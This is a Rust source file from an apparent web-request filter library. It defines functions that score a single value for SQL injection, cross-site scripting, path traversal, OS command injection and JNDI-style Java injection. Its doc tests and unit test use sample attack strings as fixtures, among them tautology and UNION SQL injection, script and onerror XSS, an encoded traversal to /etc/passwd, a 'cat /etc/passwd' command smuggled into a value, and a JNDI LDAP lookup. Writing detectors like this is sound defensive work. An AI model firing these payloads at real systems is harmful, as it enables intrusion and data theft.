//! The per-value checks ([`detect_sqli`] and friends): one value, every detector of the
//! `balanced` profile, no request around it.

use crate::event::Category;

use super::{
    decode::{normalize_text, Source},
    detect::{Engine, Finding, Location, Part},
    inspect::DEFAULT_THRESHOLD,
};

/// The findings of every detector for one value, as if it were a query parameter, under
/// the `balanced` profile.
fn scan_value(value: &str) -> Vec<Finding> {
    let Ok(engine) = Engine::get() else {
        return Vec::new();
    };
    let mut out = Vec::new();
    let (text, _) = normalize_text(value, Source::Decoded);
    engine.scan(
        &text,
        Part::Value,
        1,
        &mut Location::new(format_args!("value")),
        &mut out,
    );
    out
}

/// The strongest finding of `category` for `value` if the value scores as an attack of
/// that family on its own (at least [`DEFAULT_THRESHOLD`]).
fn detect_category(value: &str, category: Category) -> Option<Finding> {
    let findings: Vec<Finding> = scan_value(value)
        .into_iter()
        .filter(|f| f.category == category)
        .collect();
    let score: u16 = findings.iter().map(|f| f.score).sum();
    if score < DEFAULT_THRESHOLD {
        return None;
    }
    findings.into_iter().max_by_key(|f| f.score)
}

/// Checks one value for SQL injection (balanced profile).
///
/// ```
/// use tower_fortify::injection::detect_sqli;
///
/// assert!(detect_sqli("1' OR '1'='1").is_some());
/// assert!(detect_sqli("O'Brien").is_none());
/// ```
pub fn detect_sqli(value: &str) -> Option<Finding> {
    detect_category(value, Category::Sqli)
}

/// Checks one value for cross-site scripting (balanced profile).
///
/// ```
/// use tower_fortify::injection::detect_xss;
///
/// assert!(detect_xss("<img src=x onerror=alert(1)>").is_some());
/// assert!(detect_xss("fish & chips <3").is_none());
/// ```
pub fn detect_xss(value: &str) -> Option<Finding> {
    detect_category(value, Category::Xss)
}

/// Checks one value for path traversal or local file inclusion (balanced profile).
///
/// ```
/// use tower_fortify::injection::detect_traversal;
///
/// assert!(detect_traversal("..%2f..%2fetc%2fpasswd").is_some());
/// assert!(detect_traversal("docs/report.pdf").is_none());
/// ```
pub fn detect_traversal(value: &str) -> Option<Finding> {
    detect_category(value, Category::PathTraversal)
}

/// Checks one value for OS command injection (balanced profile).
///
/// ```
/// use tower_fortify::injection::detect_command;
///
/// assert!(detect_command("x; cat /etc/passwd").is_some());
/// assert!(detect_command("salt & pepper").is_none());
/// ```
pub fn detect_command(value: &str) -> Option<Finding> {
    detect_category(value, Category::CommandInjection)
}

/// Every finding of every family for one value (balanced profile), for callers that want
/// the whole picture.
///
/// ```
/// use tower_fortify::{event::Category, injection::detect_all};
///
/// let found = detect_all("${jndi:ldap://x.example/a}");
/// assert_eq!(found[0].category, Category::JavaInjection);
/// ```
pub fn detect_all(value: &str) -> Vec<Finding> {
    scan_value(value)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_family_must_score_the_threshold_on_its_own() {
        let sqli = detect_sqli("1 UNION SELECT password FROM users--").unwrap();
        assert_eq!(sqli.category, Category::Sqli);
        assert!(sqli.score >= 2);
        // An XSS payload is not an SQL injection.
        assert!(detect_sqli("<script>alert(1)</script>").is_none());
        assert!(detect_all("plain words").is_empty());
    }
}
